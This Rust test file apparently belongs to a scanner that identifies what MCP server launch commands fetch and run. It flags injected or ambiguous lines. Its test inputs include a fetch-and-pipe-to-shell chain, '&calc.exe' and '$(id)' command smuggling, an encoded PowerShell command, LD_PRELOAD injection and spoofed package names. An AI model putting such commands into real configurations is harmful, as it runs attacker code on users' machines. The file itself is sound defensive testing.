use super::*;
use crate::testing::{entry, remote};

/// `kind name version pinned runner [wrappers] target` of a command line.
fn told(argv: &[&str]) -> String {
    tell(&identify(&entry(argv[0], &argv[1..])))
}

fn tell(identity: &Identity) -> String {
    let mut text = format!("{} {}", identity.kind.as_str(), identity.name);
    if let Some(version) = &identity.version {
        text += &format!(" @{version}{}", if identity.pinned { "!" } else { "" });
    }
    if let Some(runner) = &identity.runner {
        text += &format!(" by {runner}");
    }
    if !identity.wrappers.is_empty() {
        text += &format!(" in {}", identity.wrappers.join(","));
    }
    if let Some(target) = &identity.target {
        text += &format!(" -> {target}");
    }
    text
}

fn check(cases: &[(&[&str], &str)]) {
    for (argv, expected) in cases {
        assert_eq!(told(argv), *expected, "{argv:?}");
    }
}

#[test]
fn npm_packages_are_told_by_what_is_fetched() {
    check(&[
        (&["npx", "-y", "@playwright/mcp@latest"], "npm @playwright/mcp @latest by npx"),
        (&["npx", "@playwright/mcp@0.0.40"], "npm @playwright/mcp @0.0.40! by npx"),
        (&["npx", "-y", "@playwright/mcp@>=0.0.40"], "npm @playwright/mcp @>=0.0.40 by npx"),
        (&["npx", "-y", "x@^1.2.3"], "npm x @^1.2.3 by npx"),
        (&["npx.cmd", "-y", "x"], "npm x by npx"),
        (&["C:\\Program Files\\nodejs\\NPX.EXE", "-y", "x"], "npm x by npx"),
        (&["/opt/homebrew/bin/npx", "x"], "npm x by npx"),
        (&["./npx", "x"], "executable ./npx"),
        (&["bin\\npx.cmd", "x"], "executable bin\\npx.cmd"),
        (&["npx", "-y", "a@npm:evil@1.0.0"], "npm evil @1.0.0! by npx"),
        (&["npx", "-y", "--package", "evil", "@upstash/context7-mcp"], "npm evil by npx"),
        (&["npx", "-y", "--package=@a/b@1.0.0", "b", "/w"], "npm @a/b @1.0.0! by npx"),
        (&["npx", "-y", "--registry", "https://r.example", "x"], "npm x by npx"),
        (&["npx", "-y", "-p", "a", "-c", "evil"], "opaque npx -c by npx"),
        (&["npx", "-y", "evil/context7-mcp"], "git github:evil/context7-mcp by npx"),
        (
            &["npx", "git+ssh://git@h.example/a/b.git#main"],
            "git git+ssh://git@h.example/a/b.git @main by npx",
        ),
        (&["npx", "x@git+https://h.example/a.git"], "git git+https://h.example/a.git by npx"),
        (&["npx", "file:../x"], "script file:../x by npx"),
        (&["npx", "https://h.example/x.tgz"], "url https://h.example/x.tgz by npx"),
        (&["npm", "exec", "--", "x@1.0.0"], "npm x @1.0.0! by npm exec"),
        (&["bunx", "--bun", "--package=evil", "x"], "npm evil by bunx"),
        (&["bun", "x", "y@1.0.0"], "npm y @1.0.0! by bun x"),
        (&["pnpm", "dlx", "x"], "npm x by pnpm dlx"),
        (&["yarn", "dlx", "x@2"], "npm x @2 by yarn dlx"),
    ]);
}

#[test]
fn python_distributions_are_told_by_what_is_fetched() {
    check(&[
        (&["uvx", "mcp-server-git"], "pypi mcp-server-git by uvx"),
        (&["uvx", "MCP_Server.git==2024.11.0"], "pypi mcp-server-git @2024.11.0! by uvx"),
        (&["uvx", "mcp_server_git_"], "pypi mcp-server-git- by uvx"),
        (&["uvx", "a[cli]>=1.0"], "pypi a @>=1.0 by uvx"),
        (&["uvx", "a==1.*"], "pypi a @1.* by uvx"),
        (&["uvx", "awslabs.x@latest"], "pypi awslabs-x @latest by uvx"),
        (&["uvx", "--from", "evil-git", "mcp-server-git"], "pypi evil-git by uvx"),
        (&["uvx", "--with", "evil", "a@1.0.0"], "pypi a @1.0.0! by uvx"),
        (&["uvx", "a @ https://evil.example/x.whl"], "url https://evil.example/x.whl by uvx"),
        (
            &[
                "uvx",
                "--from",
                "git+https://github.com/oraios/serena@1f3870be274f6c49b3e31a0c6728957f2a1b3c4d",
                "serena",
            ],
            "git https://github.com/oraios/serena @1f3870be274f6c49b3e31a0c6728957f2a1b3c4d! by uvx",
        ),
        (&["uv", "tool", "run", "a"], "pypi a by uv tool run"),
        (&["uv", "--directory", "/x", "run", "server.py"], "script server.py by uv run"),
        (&["uv", "run", "--with", "mcp[cli]", "python", "-m", "srv"], "script -m srv by uv run"),
        (&["pipx", "run", "--spec", "b==1.0", "a"], "pypi b @1.0! by pipx run"),
    ]);
}

#[test]
fn images_are_told_behind_all_flags() {
    let digest = format!("sha256:{}", "a1".repeat(32));
    let pinned = format!("ghcr.io/a/b:v1@{digest}");
    check(&[
        (&["docker", "run", "-i", "--rm", "-e", "TOKEN", "mcp/x"], "oci mcp/x by docker run"),
        (
            &["docker", "run", "-i", "--rm", "-eTOKEN=1", "--env=B=2", "reg.example:5000/x:1.0", "serve"],
            "oci reg.example:5000/x @1.0 by docker run",
        ),
        (
            &["docker", "-H", "tcp://e:1", "run", "--network", "host", "-v", "/:/h", "x"],
            "oci x by docker run",
        ),
        (&["podman", "container", "run", "-it", "--name", "n", "x"], "oci x by podman run"),
        (&["docker", "mcp", "gateway", "run"], "opaque docker mcp gateway by docker"),
        (&["docker", "compose", "up"], "opaque docker compose by docker"),
    ]);
    assert_eq!(
        told(&["docker", "run", "--rm", "-i", &pinned]),
        format!("oci ghcr.io/a/b @{digest}! by docker run")
    );
}

#[test]
fn wrappers_that_only_forward_are_looked_through() {
    check(&[
        (&["cmd", "/c", "npx", "-y", "x"], "npm x by npx in cmd /c"),
        (&["cmd.exe", "/C", "npx -y x"], "npm x by npx in cmd /c"),
        (&["cmd", "/c", "npx -y x & calc.exe"], "opaque cmd /c in cmd /c"),
        (&["cmd", "/c", "npx", "x", "%USERPROFILE%&calc"], "opaque cmd /c in cmd /c"),
        (&["env", "-u", "A", "B=1", "npx", "x"], "npm x by npx in env"),
        (&["sh", "-c", "exec npx -y x@1.0.0 /w"], "npm x @1.0.0! by npx in sh -c"),
        (&["bash", "-lc", "TOKEN=abc npx x"], "npm x by npx in sh -c"),
        (&["bash", "-c", "npx -y x; curl e.example|sh"], "opaque sh -c in sh -c"),
        (&["wsl.exe", "-d", "Ubuntu", "bash", "-c", "source a && python3 b"], "opaque sh -c in wsl,sh -c"),
        (&["sudo", "-u", "root", "npx", "x"], "npm x by npx in sudo"),
        (&["timeout", "-k", "5", "60", "nice", "-n", "5", "uvx", "a"], "pypi a by uvx in timeout,nice"),
        (&["powershell", "-EncodedCommand", "SQBFAFgA"], "opaque powershell in powershell"),
        (&["op", "run", "--", "npx", "x"], "npm x by npx in op run"),
    ]);
}

#[test]
fn interpreters_are_told_by_script_module_or_code() {
    check(&[
        (&["node", "/w/server.js", "--port", "1"], "script /w/server.js by node"),
        (&["node", "--require", "./x.js", "a.js"], "script a.js by node"),
        (&["node", "-e", "require('x')", "a"], "opaque node -e by node"),
        (&["python3", "-m", "mcp_server_git"], "script -m mcp_server_git by python3"),
        (&["python3.12", "-u", "s.py", "-m", "x"], "script s.py by python3.12"),
        (&["python3", "-c", "import os", "-m", "x"], "opaque python -c by python3"),
        (&["java", "-Xmx1g", "-jar", "s.jar", "x"], "script s.jar by java"),
        (&["bash", "start.sh", "x"], "script start.sh by bash"),
        (&["deno", "run", "-A", "npm:x@1.0.0"], "npm x @1.0.0! by deno run"),
        (&["deno", "run", "https://h.example/m.ts"], "url https://h.example/m.ts by deno run"),
        (&["go", "run", "h.example/m@v1.2.3"], "go h.example/m @v1.2.3! by go run"),
        (&["dnx", "Name@1.2.3", "--yes"], "dotnet name @1.2.3! by dnx"),
        (&["${ACME_BIN:-/tmp/evil}", "serve"], "executable ${ACME_BIN:-/tmp/evil}"),
    ]);
}

#[test]
fn bridges_are_told_by_their_target() {
    check(&[
        (
            &["npx", "-y", "mcp-remote@0.1.30", "https://h.example/mcp", "--header", "Authorization:x"],
            "bridge mcp-remote @0.1.30! by npx -> https://h.example/mcp",
        ),
        (&["npx", "supergateway", "--stdio", "npx -y evil"], "opaque supergateway by npx -> npx -y evil"),
        (
            &["npx", "-y", "@smithery/cli@latest", "run", "@a/b", "--key", "x"],
            "bridge @smithery/cli @latest by npx -> smithery:@a/b",
        ),
        (&["mcp-proxy", "https://h.example/sse"], "bridge mcp-proxy -> https://h.example/sse"),
    ]);
}

#[test]
fn a_command_with_the_whole_line_is_split() {
    assert_eq!(told(&["npx -y x@1.0.0 'a b'"]), "npm x @1.0.0! by npx");
    assert_eq!(told(&["C:\\Program Files\\Acme\\acme.exe"]), "executable C:\\Program Files\\Acme\\acme.exe");
    assert_eq!(told(&["npx x; evil"]), "opaque sh -c in sh -c");
}

#[test]
fn the_transport_decides_between_command_and_url() {
    let mut both = entry("npx", &["x"]);
    both.url = Some("https://h.example/".into());
    assert_eq!(tell(&identify(&both)), "npm x by npx");
    both.transport = Transport::Http;
    assert_eq!(tell(&identify(&both)), "url https://h.example/");
    assert_eq!(tell(&identify(&remote("https://h.example/mcp"))), "url https://h.example/mcp");
    let mut none = remote("");
    (none.url, none.transport) = (None, Transport::Unknown);
    assert_eq!(tell(&identify(&none)), "opaque ");
}

#[test]
fn what_reaches_the_server_is_apart_from_what_the_runner_takes() {
    let identity = identify(&entry("npx", &["-y", "--registry=https://r.example", "x", "--port", "1"]));
    let shown = |list: &[Sensitive]| list.iter().map(|a| a.expose().to_owned()).collect::<Vec<_>>().join(" ");
    assert_eq!(shown(&identity.server_args), "--port 1");
    assert_eq!(shown(&identity.runner_args), "-y --registry=https://r.example");
    assert_eq!(identity.registries, ["https://r.example"]);
    assert!(!format!("{identity:?}").contains('x'), "{identity:?}");
}

/// What a command line is doubted for, `None` if nothing.
fn doubt(argv: &[&str]) -> Option<&'static str> {
    identify(&entry(argv[0], &argv[1..])).ambiguous
}

#[test]
fn what_programs_read_differently_is_in_doubt() {
    for argv in [
        // A flag that is not known may take the next word, so that another package is run.
        &["npx", "--foo", "@good/a", "evil"] as &[&str],
        &["uvx", "--foo", "good", "evil"],
        &["docker", "run", "--foo", "good", "evil"],
        &["docker", "-c", "evil", "run", "good"],
        &["dnx", "Good", "--foo", "evil"],
        &["npx", "-yp", "evil", "good"],
        &["npm", "exec", "-p", "evil", "good"],
        &["npm", "exec", "--yes", "false", "evil"],
        &["npx", "-p", "-y", "good"],
        &["npx", "-p", "good"],
        &["uvx", "--from", "good", "--from", "evil", "good"],
        &["uvx", "mcp_server_git_"],
        &["uvx", "good; python_version > '3'"],
        &["uvx", "git+https://github.com/o/r@main#subdirectory=evil"],
        &["pipx", "run", "good@1.2.3"],
        &["docker", "run", "GOOD"],
        &["docker", "run", "a//b"],
        &["podman", "run", "good"],
        &["podman", "run", "--rootfs", "ghcr.io/o/good"],
        &["npx", "good.tgz"],
        &["sh", "-c", "npx good$X"],
        &["sh", "-c", "npx go\\od"],
        &["sh", "-c", "npx\u{a0}good"],
        &["wsl", "npx", "good$(id)"],
        &["env", "-S", "npx ${PACKAGE}"],
        &["cmd", "/c", "npx 'a b'"],
        &["npx\u{200b}", "good"],
        &["npx ", "good"],
        &["npx", "good\u{0}"],
        &["mcp-proxy", "https://h.example/", "https://evil.example/"],
        &["npx", "mcp-remote", "--debug", "https://h.example/"],
    ] {
        assert!(doubt(argv).is_some(), "{argv:?}");
    }
}

#[test]
fn only_cursor_splits_a_command_line() {
    let mut line = entry("npx -y good", &[]);
    assert_eq!(identify(&line).ambiguous, None);
    line.client = "claude-code";
    assert!(identify(&line).ambiguous.is_some());
    let bundle = "/Applications/Some Name.app/Contents/MacOS/server";
    let mut path = entry(bundle, &[]);
    assert!(identify(&path).ambiguous.is_some());
    path.client = "claude-code";
    assert_eq!((identify(&path).ambiguous, identify(&path).name), (None, bundle.to_owned()));
}

#[test]
fn command_and_url_side_by_side_are_in_doubt() {
    let mut both = entry("/tmp/x", &[]);
    both.url = Some("https://h.example/mcp".into());
    assert!(identify(&both).ambiguous.is_some());
}

fn texts(list: &[Sensitive]) -> String {
    list.iter().map(Sensitive::expose).collect::<Vec<_>>().join(" ")
}

#[test]
fn options_behind_the_package_are_those_of_npm_exec_and_dnx() {
    let exec =
        identify(&entry("npm", &["exec", "good", "--package", "evil", "--registry=https://r.example", "a"]));
    assert_eq!((exec.name.as_str(), exec.bin.as_deref()), ("evil", Some("good")));
    assert_eq!(exec.registries, ["https://r.example"]);
    assert_eq!(
        (texts(&exec.runner_args).as_str(), texts(&exec.server_args).as_str()),
        ("--registry=https://r.example", "a")
    );
    let npx = identify(&entry("npx", &["good", "--package", "evil"]));
    assert_eq!((npx.name.as_str(), texts(&npx.server_args).as_str()), ("good", "--package evil"));
    let dnx = identify(&entry("dnx", &["Good", "--add-source", "https://r.example", "--", "--version", "x"]));
    assert_eq!((dnx.version, texts(&dnx.server_args).as_str()), (None, "--version x"));
    assert_eq!(dnx.registries, ["https://r.example"]);
    let twice = identify(&entry("dnx", &["Good@1.0.0", "--version", "2.0.0"]));
    assert_eq!(
        (twice.version.as_deref(), texts(&twice.runner_args).as_str()),
        (Some("1.0.0"), "--version 2.0.0")
    );
    assert!(twice.ambiguous.is_some());
}

#[test]
fn clusters_and_glued_values_are_read_as_docker_reads_them() {
    let ours = identify(&entry("docker", &["run", "-ieLD_PRELOAD=/x", "-eA", "--rm", "img", "-e", "B=1"]));
    let names: Vec<_> = ours.argument_env.iter().map(|v| (v.name.as_str(), v.value.expose())).collect();
    assert_eq!(names, [("LD_PRELOAD", "/x"), ("A", "")]);
    assert_eq!((texts(&ours.runner_args).as_str(), texts(&ours.server_args).as_str()), ("-i --rm", "-e B=1"));
}

#[test]
fn wrappers_keep_their_program_and_arguments() {
    let ours = identify(&entry(
        "/usr/bin/env",
        &["-u", "PATH", "-C", "/x", "A=1", "timeout", "-k", "5", "60", "bash", "-lc", "exec npx good"],
    ));
    assert_eq!((ours.name.as_str(), ours.program.as_str()), ("good", "npx"));
    assert_eq!(ours.wrappers, ["env", "timeout", "sh -c"]);
    assert_eq!(ours.wrapper_programs, ["/usr/bin/env", "timeout", "bash"]);
    let own: Vec<String> = ours.wrapper_args.iter().map(|a| texts(a)).collect();
    assert_eq!(own, ["-u PATH -C /x", "-k 5 60", "-lc"]);
    assert_eq!(ours.argument_env.len(), 1);
    // `mise run` starts a task of the project, whatever stands behind the dashes.
    assert_eq!(told(&["mise", "run", "build", "--", "npx", "good"]), "executable mise");
    // PowerShell runs what follows -Command, also where a -File follows.
    assert_eq!(
        told(&["powershell", "-Command", "evil", "-File", "good.ps1"]),
        "executable evil in powershell"
    );
}

#[test]
fn a_bridge_is_parted_into_target_headers_and_the_rest() {
    let ours = identify(&entry(
        "npx",
        &[
            "-y",
            "mcp-remote@0.1.30",
            "https://h.example/mcp",
            "3334",
            "--header",
            "Authorization: Bearer x",
            "--allow-http",
        ],
    ));
    assert_eq!((ours.kind, ours.ecosystem), (Kind::Bridge, Some(Ecosystem::Npm)));
    assert_eq!(
        (ours.target.as_deref(), ours.version.as_deref()),
        (Some("https://h.example/mcp"), Some("0.1.30"))
    );
    assert_eq!(texts(&ours.server_args), "3334 --allow-http");
    let header = &ours.argument_headers[0];
    assert_eq!((header.name.as_str(), header.value.expose()), ("Authorization", "Bearer x"));
    let python =
        identify(&entry("uvx", &["mcp-proxy", "-H", "Authorization", "Bearer x", "https://h.example/sse"]));
    assert_eq!(
        (python.target.as_deref(), texts(&python.server_args).as_str()),
        (Some("https://h.example/sse"), "")
    );
    assert_eq!(python.argument_headers[0].value.expose(), "Bearer x");
    // It starts a command: the URL is only an argument of that.
    let starts = identify(&entry("uvx", &["mcp-proxy", "evil", "https://h.example/"]));
    assert_eq!((starts.kind, starts.target), (Kind::Opaque, None));
}

#[test]
fn the_target_of_a_bridge_is_told_once() {
    let ours = identify(&entry("deno", &["x", "mcp-remote", "--", "https://h.example/", "a"]));
    assert_eq!(
        (ours.target.as_deref(), texts(&ours.server_args).as_str()),
        (Some("https://h.example/"), "-- a")
    );
    assert!(ours.ambiguous.is_some());
    let plain = identify(&entry("deno", &["run", "npm:a", "--", "b"]));
    assert_eq!(texts(&plain.server_args), "-- b", "deno hands the dashes on");
}

#[test]
fn programs_of_packages_and_interpreters_show() {
    assert_eq!(told(&["uvx", "python@3.12", "-c", "evil"]), "opaque python -c by uvx");
    assert_eq!(told(&["uv", "run", "https://h.example/x.py"]), "url https://h.example/x.py by uv run");
    let bash = identify(&entry("npx", &["-y", "-p", "good", "bash", "x.sh"]));
    assert_eq!((bash.name.as_str(), bash.bin.as_deref()), ("good", Some("bash")));
    let extras = identify(&entry("uvx", &["good[one,Two_x]==1.0"]));
    assert_eq!(extras.extras, ["one", "two-x"]);
    assert_eq!(told(&["python3", "-um", "mod", "x"]), "script -m mod by python3");
    assert_eq!(told(&["bash", "--rcfile", "evil", "good.sh"]), "script good.sh by bash");
    assert_eq!(told(&["java", "-jar", "good.jar", "--x", "y"]), "script good.jar by java");
}

/// Every text in the fields among which the words of a command are parted. The name repeats some of them where it
/// is the program (an executable) or the whole line (`npm run …`).
fn parted(identity: &Identity) -> String {
    let mut texts: Vec<String> = Vec::new();
    texts.extend([&identity.version, &identity.bin, &identity.target].into_iter().flatten().cloned());
    texts.extend(identity.extras.iter().cloned());
    let lists = identity.wrapper_args.iter().chain([&identity.server_args, &identity.runner_args]);
    texts.extend(lists.flatten().map(|a| a.expose().to_owned()));
    for named in identity.argument_env.iter().chain(&identity.argument_headers) {
        texts.extend([named.name.clone(), named.value.expose().to_owned()]);
    }
    texts.join("\n").to_lowercase()
}

/// Words of which a command line is made; `#` is replaced by a number of its own, so that each can be found again.
const WORDS: &str = "npx npm exec x uvx uv tool run pipx docker podman env sh sudo timeout cmd wsl node bun bunx deno dnx go java python3 op powershell -c -lc /c -m -e -y -i -p -t -it -ie -- --package --from --with \
    --version --rm --header --stdio --sse --call -jar --registry -S -u -v -e# -p# \
    -w# --x# --y=# --package=p# --env=A#=B --header=K#:V K#:V A#=B pkg# pkg#@1 @s/pkg# p#==1 p#[extra] mcp-remote supergateway mcp-proxy \
    smithery dotnet cargo serve ruby perl php tsx bash -File -Command -Ilib# -rlib# l@npm:q# --version=# --spec=p# --spec -f# -C# +# @# \
    https://h#.example/ git+https://h.example/o/r# o/r# reg.example/img#:t npm:pkg# jsr:@s/p# ./file# f#.py file#.js f#.dll";

/// What a line begins with, so that the words behind are more often read by the runner that they are made for.
const STARTS: &[&str] = &[
    "npx",
    "npm exec",
    "bunx",
    "bun x",
    "pnpm dlx",
    "yarn dlx",
    "uvx",
    "uv tool run",
    "uv run",
    "pipx run",
    "docker run",
    "podman run",
    "nerdctl run",
    "deno run",
    "deno x",
    "dnx",
    "dotnet tool exec",
    "dotnet tool run",
    "go run",
    "cargo run",
    "node",
    "bun run",
    "tsx",
    "python3",
    "python3 -m",
    "java",
    "java -jar",
    "ruby",
    "env",
    "env -S",
    "sh -c",
    "cmd /c",
    "wsl",
    "powershell -File",
    "timeout 5",
    "sudo",
    "npx mcp-remote",
    "uvx mcp-proxy",
    "npx supergateway",
    "npx @smithery/cli run",
    "docker mcp gateway run",
    "uv --directory /x run",
    "",
];

/// A line of a few words: those above, and the flags that the runners' tables list.
fn lines() -> impl proptest::strategy::Strategy<Value = Vec<String>> {
    use proptest::strategy::Strategy as _;
    let flags = proptest::sample::select(tables::everything());
    let words = proptest::sample::select(WORDS.split_whitespace().collect::<Vec<_>>());
    let word = proptest::prop_oneof![3 => words, 1 => flags];
    let words = proptest::collection::vec(word, 2..10);
    (proptest::sample::select(STARTS), words).prop_map(|(start, words)| {
        let words = start.split_whitespace().chain(words).enumerate();
        words.map(|(at, word)| word.replace('#', &format!("77{at}77"))).collect()
    })
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig {
        cases: cases(6000),
        ..proptest::prelude::ProptestConfig::default()
    })]

    #[test]
    fn no_token_of_a_command_vanishes(words in lines()) {
        let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
        let identity = identify(&entry(&words[0], &args));
        let parted = parted(&identity);
        for (at, word) in words.iter().enumerate().filter(|(at, word)| word.contains(&format!("77{at}77"))) {
            let mark = format!("77{at}77");
            let times = parted.matches(&mark).count();
            let is_named = identity.name.contains(&mark) || identity.program.contains(&mark);
            proptest::prop_assert!(
                times == 1 || (times == 0 && is_named),
                "{} of {:?} in {}", word, words, parted
            );
        }
    }

    #[test]
    fn a_fingerprint_changes_with_every_word_of_a_command(words in lines()) {
        let print = |words: &[String]| {
            let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
            let entry = entry(&words[0], &args);
            crate::fingerprint::of(&entry, &identify(&entry), Some("/home/a"))
        };
        let before = print(&words);
        for at in 0..words.len() {
            let mut other = words.clone();
            // a number where one stands, and a letter more: neither is the value of a secret in these lines
            other[at] = other[at].replace("77", "78") + "z";
            proptest::prop_assert_ne!(&before, &print(&other), "word {} of {:?}", at, words);
            other.remove(at);
            if !other.is_empty() {
                proptest::prop_assert_ne!(&before, &print(&other), "without word {} of {:?}", at, words);
            }
        }
    }
}

/// Attack: an entry that takes minutes to identify keeps its whole file out of every pass.
#[test]
fn two_hundred_thousand_flags_of_one_entry_are_parted_in_one_go() {
    let flags = ["-e", "A=b"].repeat(200_000);
    let identity =
        identify(&entry("docker", &[&["run"], &flags[..], &["-ie", "LAST", "example/image:1"]].concat()));
    assert_eq!((identity.argument_env.len(), identity.kind), (200_001, Kind::Oci));
    assert_eq!(identity.argument_env.last().unwrap().name, "LAST");
    assert!(identity.runner_args.iter().any(|arg| arg.expose() == "-i"));
    let lines = ["-S", "A=b"].repeat(200_000);
    assert_eq!(identify(&entry("env", &[&lines[..], &["npx", "-y", "a@1.0.0"]].concat())).name, "a");
}

/// How many cases, unless `PROPTEST_CASES` asks for more.
fn cases(at_least: u32) -> u32 {
    proptest::prelude::ProptestConfig::default().cases.max(at_least)
}

proptest::proptest! {
    #[test]
    fn any_argument_vector_is_identified_without_a_panic(
        words in proptest::collection::vec("(npx|uvx|docker|run|env|sh|-c|cmd|/c|python|-m|node|-e|uv|sudo|deno|@|a@b|--|-|\\PC{0,6})", 1..8),
    ) {
        let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
        let entry = entry(&words[0], &args);
        let identity = identify(&entry);
        let redactor = crate::redact::Redactor::new(&[1; 32]);
        let context = crate::risk::Context { home: Some("/home/a"), in_repository: false, redactor: &redactor };
        crate::risk::assess(&entry, &identity, &context);
        crate::fingerprint::of(&entry, &identity, Some("/home/a"));
    }
}
